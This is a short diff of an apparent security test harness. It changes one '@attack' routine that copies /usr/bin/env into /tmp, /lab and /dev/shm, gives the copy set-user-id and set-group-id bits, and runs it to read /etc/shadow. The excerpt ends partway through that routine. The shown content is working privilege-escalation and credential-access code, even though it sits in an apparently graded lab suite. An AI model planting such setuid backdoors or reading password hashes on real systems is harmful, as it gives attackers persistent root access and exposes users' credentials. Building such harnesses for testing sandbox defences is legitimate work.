@@ -101,14 +101,13 @@ def gains_rights():
             pass
 
 
-@attack("output limit")
+@attack("graded")
 def makes_a_program_run_as_root():
-    """Leaves a program with the set-user-id bit in every folder that it shares with others."""
-    import glob
+    """Leaves a program with the set-user-id bit in every folder that it may write."""
     import os
     import shutil
 
-    for folder in ["/tmp", *glob.glob("/tmp/**/kernel-*", recursive=True)]:
+    for folder in ("/tmp", "/lab", "/dev/shm"):
         shutil.copy("/usr/bin/env", f"{folder}/rise")
         os.chmod(f"{folder}/rise", 0o6755)
         if os.system(f"{folder}/rise cat /etc/shadow 2> /dev/null") == 0:
